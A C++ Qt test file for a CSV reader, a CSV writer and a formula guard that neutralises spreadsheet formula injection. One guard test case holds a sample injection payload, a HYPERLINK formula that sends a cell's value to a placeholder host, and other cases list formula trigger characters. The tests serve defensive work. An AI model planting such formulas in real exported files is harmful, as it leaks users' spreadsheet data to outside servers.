// SPDX-FileCopyrightText: The Phaseout contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/formats/csvreader.h"
#include "core/formats/csvwriter.h"
#include "core/formats/formulaguard.h"

#include "tests/runner.h"

#include <QBuffer>
#include <QRegularExpression>
#include <rapidcheck.h>

using namespace Qt::Literals::StringLiterals;
using namespace phaseout;
using namespace phaseout::formats;

namespace {
using Rows = std::vector<QStringList>;

Result<Rows> readAll(QByteArray bytes, CsvOptions options = {})
{
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::ReadOnly);
    CsvReader reader(buffer, options);
    Rows rows;
    TableRow row;
    for (;;) {
        const Result<bool> more = reader.next(row);
        if (!more)
            return failure(more.error());
        if (!*more)
            return rows;
        rows.push_back(row.cells);
    }
}

// Rows as one line of text: cells with | between, rows with / between.
QString shownRows(const Rows &rows)
{
    QStringList lines;
    for (const QStringList &cells : rows)
        lines += cells.join(u'|');
    return lines.join(u'/');
}

rc::Gen<QString> cellText()
{
    const auto piece = rc::gen::element(u"a"_s, u"Zé"_s, u","_s, u";"_s, u"\""_s, u"\n"_s, u"\r"_s, u"\r\n"_s, u" "_s, u"'"_s, u"="_s,
                                        u"-"_s, u"7"_s, u"."_s, u"＝"_s, u"\t"_s, u"#TYPE "_s, u"sep="_s, u"+"_s, u"@"_s, u"𝄞"_s);
    return rc::gen::map(rc::gen::container<std::vector<QString>>(piece), [](const std::vector<QString> &pieces) {
        QString text;
        for (const QString &one : pieces)
            text += one;
        return text;
    });
}
} // namespace

class CsvTest : public QObject {
    Q_OBJECT
private slots:
    void init() { QTest::failOnWarning(QRegularExpression(u".*"_s)); }

    void reads_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("expected");
        QTest::newRow("line feeds") << "a,b\n1,2\n"_ba << u"a|b/1|2"_s;
        QTest::newRow("carriage return and line feed") << "a,b\r\n1,2\r\n"_ba << u"a|b/1|2"_s;
        QTest::newRow("bare carriage returns") << "a,b\r1,2\r3,4"_ba << u"a|b/1|2/3|4"_s;
        QTest::newRow("no line end at the end") << "a,b\n1,2"_ba << u"a|b/1|2"_s;
        QTest::newRow("empty file") << ""_ba << u""_s;
        QTest::newRow("semicolons with decimal commas") << "a;b;c\n1,5;2,5;x\n1,5;2,5;y\n"_ba << u"a|b|c/1,5|2,5|x/1,5|2,5|y"_s;
        QTest::newRow("tabs") << "a\tb\n1\t2\n"_ba << u"a|b/1|2"_s;
        QTest::newRow("bars") << "a|b\n1|2\n"_ba << u"a|b/1|2"_s;
        QTest::newRow("carets") << "a^b\n1^2\n"_ba << u"a|b/1|2"_s;
        QTest::newRow("delimiters inside quotes do not count") << "a;\"b,c,d,e\"\n1;\"2,3,4,5\"\n"_ba << u"a|b,c,d,e/1|2,3,4,5"_s;
        QTest::newRow("declared delimiter") << "sep=|\r\na,b|c\r\n"_ba << u"a,b|c"_s;
        QTest::newRow("powershell preamble") << "#TYPE Microsoft.Something\n\n\"a\",\"b\"\n\"1\",\"2\"\n"_ba << u"a|b/1|2"_s;
        QTest::newRow("blank lines") << "\n\na,b\n\n1,2\n,\n"_ba << u"a|b/1|2"_s;
        QTest::newRow("doubled quotes") << "a,\"13\"\"\"\n"_ba << u"a|13\""_s;
        QTest::newRow("line end inside quotes") << "a,\"one\r\ntwo\"\nb,c\n"_ba << u"a|one\r\ntwo/b|c"_s;
        QTest::newRow("text after a closing quote") << "a,\"b\"c\n"_ba << u"a|bc"_s;
        QTest::newRow("space before a quote") << "a, \"b,c\"\n1,2\n3,4\n"_ba << u"a|b,c/1|2/3|4"_s;
        QTest::newRow("quote inside a cell") << "a,5\" lens\n1,2\n"_ba << u"a|5\" lens/1|2"_s;
        QTest::newRow("quote never closed is plain") << "a,b\n1,\"2\n3,4\n"_ba << u"a|b/1|\"2/3|4"_s;
        QTest::newRow("two quotes never closed are plain") << "a,b,c\n1,\"2,3\n4,5,6\n7,\"8,9\n"_ba << u"a|b|c/1|\"2|3/4|5|6/7|\"8|9"_s;
        QTest::newRow("a quote never closed before one that is") << "a,b,c\n1,\"2,3\n4,\"5,5\",6\n"_ba << u"a|b|c/1|\"2|3/4|5,5|6"_s;
        QTest::newRow("text after a closing quote, two lines") << "a,b,c\n1,\"2\n3\" x,4\n"_ba << u"a|b|c/1|2\n3 x|4"_s;
        QTest::newRow("lines that look like rows") << "a,b,c\n1,\"2,3\n4,5\",6\n"_ba << u"a|b|c/1|2,3\n4,5|6"_s;
        QTest::newRow("ragged rows stay ragged") << "a,b,c\n1,2\n1,2,3,4\n"_ba << u"a|b|c/1|2/1|2|3|4"_s;
        QTest::newRow("one column") << "name\nx\ny\n"_ba << u"name/x/y"_s;
        QTest::newRow("a spreadsheet's wrapper of text comes off") << "=\"0037\",\"=\"\"0041\"\"\"\n=\"a\"\"b\",=\"a\"&\"b\"\n'=\"1\",=A1\n"_ba << u"0037|0041/a\"b|=\"a\"&\"b\"/=\"1\"|=A1"_s;
        QTest::newRow("formula guard comes off") << "a,b\n'=1+1,'-x\n"_ba << u"a|b/=1+1|-x"_s;
        QTest::newRow("honest apostrophe stays") << "a,b\n'til,'7\n"_ba << u"a|b/'til|'7"_s;
        QTest::newRow("zero bytes") << QByteArray("a,b\n1\0x,2\n", 10) << QString(u"a|b/1"_s + QChar(0) + u"x|2"_s);
        QTest::newRow("utf-16 little endian") << QByteArray("\xFF\xFE" "a\0,\0b\0\n\0\xE9\0,\0" "2\0", 16) << u"a|b/é|2"_s;
        QTest::newRow("utf-16 big endian") << QByteArray("\xFE\xFF\0a\0,\0b\0\n\0\xE9\0,\0" "2", 16) << u"a|b/é|2"_s;
        QTest::newRow("utf-32 little endian") << QByteArray("\xFF\xFE\0\0" "a\0\0\0,\0\0\0b\0\0\0\n\0\0\0\xE9\0\0\0,\0\0\0" "2\0\0\0", 32) << u"a|b/é|2"_s;
        QTest::newRow("utf-32 big endian, no mark") << QByteArray("\0\0\0a\0\0\0,\0\0\0b\0\0\0\n\0\0\0\xE9\0\0\0,\0\0\0" "2", 28) << u"a|b/é|2"_s;
        QTest::newRow("windows-1252") << "a,b\n\x80 caf\xE9,\x93x\x94\n"_ba << u"a|b/€ café|“x”"_s;
    }
    void reads()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QString, expected);
        const Result<Rows> rows = readAll(bytes);
        QVERIFY_RESULT(rows);
        QCOMPARE(shownRows(*rows), expected);
    }

    void numbersRowsByLine()
    {
        QByteArray bytes = "a,b\n\"1\n1\",2\n\n3,4\n";
        QBuffer buffer(&bytes);
        buffer.open(QIODevice::ReadOnly);
        CsvReader reader(buffer);
        TableRow row;
        std::vector<qint64> numbers;
        QStringList raws;
        while (reader.next(row).value()) {
            numbers.push_back(row.number);
            raws += row.raw;
        }
        QCOMPARE(numbers, (std::vector<qint64>{1, 2, 5}));
        QCOMPARE(raws, (QStringList{u"a,b"_s, u"\"1\n1\",2"_s, u"3,4"_s}));
        QVERIFY(reader.form().evidence.contains(u"“,”"_s));
    }

    void whatIsTooLongIsLostByItself_data()
    {
        QTest::addColumn<QByteArray>("record");
        QTest::addColumn<QString>("expected"); // the row's cells, and the columns that were lost
        QTest::newRow("one line of 20 MB") << QByteArray(20'000'000, 'x') << u"lost"_s;
        QTest::newRow("a line of 20 MB in quotes") << QByteArray("\"" + QByteArray(20'000'000, 'x') + "\"") << u"lost"_s;
        QTest::newRow("a cell of 300 kB") << QByteArray("a," + QByteArray(300'000, 'x') + ",c") << u"a||c!1"_s;
        QTest::newRow("a quoted cell of 300 kB") << QByteArray("a,\"" + QByteArray(300'000, 'x') + "\",c") << u"a||c!1"_s;
        QTest::newRow("100,000 columns") << QByteArray("a" + QByteArray(100'000, ',') + "b") << QString(u"a"_s + QString(1023, u'|') + u"!100000"_s);
    }
    void whatIsTooLongIsLostByItself()
    {
        QFETCH(QByteArray, record);
        QFETCH(QString, expected);
        QByteArray bytes = "1,2\n" + record + "\r\n3,4\n";
        QBuffer buffer(&bytes);
        buffer.open(QIODevice::ReadOnly);
        CsvReader reader(buffer);
        TableRow row;
        QVERIFY(reader.next(row).value());
        QVERIFY(reader.next(row).value());
        QString got = row.isLost ? u"lost"_s : row.cells.join(u'|');
        for (const LostCell &cell : row.lost)
            got += u'!' + QString::number(cell.column);
        QCOMPARE(got, expected);
        QCOMPARE(row.number, 2);
        QVERIFY(row.raw.size() <= 500'000);
        QVERIFY(reader.next(row).value());
        QCOMPARE(row.number, 3);
        QCOMPARE(row.cells, (QStringList{u"3"_s, u"4"_s}));
        QVERIFY(!row.isLost && row.lost.empty());
        QVERIFY(!reader.next(row).value());
    }

    void anEndlessQuoteCostsOneLineOnly()
    {
        const Result<Rows> rows = readAll("a,b\n1,\"" + QByteArray("2\n").repeated(1'000'000));
        QVERIFY_RESULT(rows);
        QCOMPARE(rows->size(), size_t(1'000'001));
    }

    // Each line opens a quotation mark that only the next one closes: none of them is read over and over.
    void quotesThatAllBelongToOthers()
    {
        constexpr int lines = 200'000;
        const Result<Rows> rows = readAll("a,b,c\n" + QByteArray("x\"y,\"z\n").repeated(lines));
        QVERIFY_RESULT(rows);
        QCOMPARE(rows->size(), size_t(lines + 1));
        QCOMPARE(rows->back(), (QStringList{u"x\"y"_s, u"\"z"_s}));
    }

    void guard_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("guarded");
        QTest::newRow("equals") << u"=HYPERLINK(\"http://x/?\"&A1)"_s << u"'=HYPERLINK(\"http://x/?\"&A1)"_s;
        QTest::newRow("plus") << u"+44 20"_s << u"'+44 20"_s;
        QTest::newRow("minus") << u"-1+2"_s << u"'-1+2"_s;
        QTest::newRow("at") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
        QTest::newRow("tab") << u"\t=1"_s << u"'\t=1"_s;
        QTest::newRow("carriage return") << u"\r=1"_s << u"'\r=1"_s;
        QTest::newRow("line feed") << u"\n=1"_s << u"'\n=1"_s;
        QTest::newRow("leading spaces") << u"  =1"_s << u"'  =1"_s;
        QTest::newRow("full-width equals") << u"＝1"_s << u"'＝1"_s;
        QTest::newRow("full-width plus") << u"＋1"_s << u"'＋1"_s;
        QTest::newRow("full-width minus") << u"－1"_s << u"'－1"_s;
        QTest::newRow("full-width at") << u"＠1"_s << u"'＠1"_s;
        QTest::newRow("already guarded") << u"'=1"_s << u"''=1"_s;
        QTest::newRow("negative number") << u"-1,234.50"_s << u"-1,234.50"_s;
        QTest::newRow("negative with a word") << u"-5C"_s << u"'-5C"_s;
        QTest::newRow("plain") << u"Till 1"_s << u"Till 1"_s;
        QTest::newRow("apostrophe") << u"'til"_s << u"'til"_s;
        QTest::newRow("empty") << u""_s << u""_s;
    }
    void guard()
    {
        QFETCH(QString, text);
        QFETCH(QString, guarded);
        QCOMPARE(withFormulaGuard(text), guarded);
        QCOMPARE(withoutFormulaGuard(guarded), text);
    }

    void printedRowsReadBack()
    {
        QVERIFY(rc::check("print and parse are opposites", [](const std::vector<std::uint8_t> &lengths) {
            Rows rows;
            for (const std::uint8_t length : lengths) {
                QStringList cells{u"k"_s}; // a row of empty cells alone is blank, and blank rows are passed over
                for (int i = 0; i < length % 6; ++i)
                    cells += *cellText();
                rows.push_back(cells);
            }
            QByteArray bytes;
            QBuffer buffer(&bytes);
            buffer.open(QIODevice::WriteOnly);
            CsvWriter writer(buffer);
            for (const QStringList &cells : rows)
                RC_ASSERT(writer.writeRow(cells).has_value());
            CsvOptions options;
            options.delimiter = u',';
            RC_ASSERT(readAll(bytes, options).value() == rows);
        }));
    }

    void randomBytesNeverHarm()
    {
        QVERIFY(rc::check("any bytes", [](const std::vector<std::uint8_t> &bytes) {
            const QByteArray all(reinterpret_cast<const char *>(bytes.data()), static_cast<qsizetype>(bytes.size()));
            RC_ASSERT(readAll(all).has_value());
        }));
    }
};
PHASEOUT_TEST(CsvTest)
#include "tst_csv.moc"
